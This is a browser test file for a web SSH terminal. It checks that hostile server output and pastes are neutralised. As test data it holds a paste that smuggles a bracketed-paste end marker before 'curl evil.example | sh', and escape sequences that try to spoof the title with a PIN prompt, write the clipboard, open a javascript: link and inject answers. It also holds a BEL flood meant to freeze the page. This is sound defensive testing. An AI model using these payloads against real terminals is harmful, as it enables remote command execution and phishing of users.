// What a hostile SSH server (its output reaches the terminal) or a hostile clipboard can make the
// page do, in Debian's Chromium. Server output is fed through the same TerminalView.writeBytes the
// session's pump uses; the terminal's answers and pastes are read from TerminalView.onInput, which
// the session sends to the server as keystrokes.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openApp, startWebStack, type WebStack } from './harness.ts';

declare global {
  interface Window { sent?: string[] }
}

describe('hostile terminal output and pastes', () => {
  let stack: WebStack;
  beforeAll(async () => { stack = await startWebStack({ config: { mode: 'personal' } }); }, 180_000);
  afterAll(async () => { await stack?.stop(); });

  it('a pasted end-of-paste marker cannot end bracketed paste early (paste event and Paste button)', async () => {
    const { context, page } = await stack.newPage();
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: stack.baseUrl });
    await openApp(page, stack.baseUrl);
    // The shell turns on bracketed paste (xterm ctlseqs: CSI ? 2004 h), as bash and zsh do at the prompt.
    await page.evaluate(async () => {
      const view = window.tessera!.app.terminal;
      window.sent = [];
      view.onInput((d) => window.sent!.push(d));
      void view.writeBytes(new TextEncoder().encode('\x1b[?2004h$ '));
      await view.flush();
    });
    // Copied from a hostile web page: after the marker, the shell would run the rest as typed keys.
    const evil = 'echo harmless\x1b[201~\rcurl evil.example | sh\r';
    await page.evaluate((text) => {
      const data = new DataTransfer();
      data.setData('text/plain', text);
      document.querySelector('#terminal .xterm-helper-textarea')!.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
    }, evil);
    await page.evaluate((text) => navigator.clipboard.writeText(text), evil);
    await page.click('#paste-button');
    await expect.poll(() => page.evaluate(() => window.sent!.length)).toBe(2);
    const sent = await page.evaluate(() => window.sent!);
    for (const s of sent) {
      expect(s.startsWith('\x1b[200~')).toBe(true);
      expect(s.endsWith('\x1b[201~')).toBe(true);
      // Exactly one end marker: the shell sees the whole paste as pasted text, none of it as keystrokes.
      expect(s.split('\x1b[201~')).toHaveLength(2);
      expect(s).toContain('curl evil.example | sh');
    }
    await context.close();
  }, 60_000);

  it('server output cannot set the title, write the clipboard, open a javascript: link or inject an answer', async () => {
    const { context, page } = await stack.newPage();
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: stack.baseUrl });
    await openApp(page, stack.baseUrl);
    const dialogs: string[] = [];
    page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
    const title = await page.title();
    await page.evaluate(() => navigator.clipboard.writeText('untouched'));
    const sent = await page.evaluate(async () => {
      const view = window.tessera!.app.terminal;
      const opened: string[] = [];
      window.open = ((url?: string | URL) => { opened.push(String(url)); return null; }) as typeof window.open;
      window.sent = [];
      view.onInput((d) => window.sent!.push(d));
      const out = [
        '\x1b]0;Your session expired - enter your PIN\x07', '\x1b]2;evil\x1b\\', // OSC 0/2: title
        '\x1b]52;c;ZWNobyBwd25lZA==\x07', // OSC 52: clipboard write ("echo pwned")
        '\x1b]8;;javascript:alert(1)\x07CLICKME\x1b]8;;\x07 ', // OSC 8 hyperlink, not http(s)
        '\x1bP$qm\x1b\\', '\x1b[21t', // DECRQSS (SGR) and the title report (xterm window ops)
      ].join('');
      void view.writeBytes(new TextEncoder().encode(out));
      await view.flush();
      return { input: window.sent, opened };
    });
    // The link text is on screen; clicking it opens nothing.
    const cell = await page.evaluate(() => {
      const screen = document.querySelector('#terminal .xterm-screen')!.getBoundingClientRect();
      const t = window.tessera!.app.terminal.terminal;
      const row = t.buffer.active.cursorY;
      return { x: screen.left + (screen.width / t.cols) * 2.5, y: screen.top + (screen.height / t.rows) * (row + 0.5) };
    });
    await page.mouse.move(cell.x, cell.y);
    await page.mouse.click(cell.x, cell.y);
    expect(await page.title()).toBe(title);
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('untouched');
    expect(sent.opened).toEqual([]);
    expect(dialogs).toEqual([]);
    // DECRQSS answers with a fixed status string (no server text echoed back as input); no title report.
    expect(sent.input).toEqual(['\x1bP1$r0m\x1b\\']);
    expect(await page.evaluate(() => window.tessera!.terminalText())).toContain('CLICKME');
    await context.close();
  }, 60_000);

  it('a flood of BEL flashes the terminal without starting work for every byte', async () => {
    const { context, page } = await stack.newPage();
    await openApp(page, stack.baseUrl);
    // Before: a style change and a timer per BEL; 2 MiB of BEL froze the page for about 20 s (text: 0.5 s).
    const result = await page.evaluate(async () => {
      const view = window.tessera!.app.terminal;
      const area = document.getElementById('terminal')!;
      let flashed = false;
      new MutationObserver(() => { flashed ||= area.classList.contains('bell'); }).observe(area, { attributes: true, attributeFilter: ['class'] });
      let timers = 0;
      const realSetTimeout = window.setTimeout;
      window.setTimeout = ((...args: Parameters<typeof setTimeout>) => { timers++; return realSetTimeout(...args); }) as typeof setTimeout;
      void view.writeBytes(new Uint8Array(100_000).fill(0x07));
      await view.flush();
      window.setTimeout = realSetTimeout;
      return { timers, flashed };
    });
    expect(result.timers).toBeLessThan(100);
    expect(result.flashed).toBe(true);
    await expect.poll(() => page.evaluate(() => document.getElementById('terminal')!.classList.contains('bell'))).toBe(false);
    await context.close();
  }, 60_000);
});
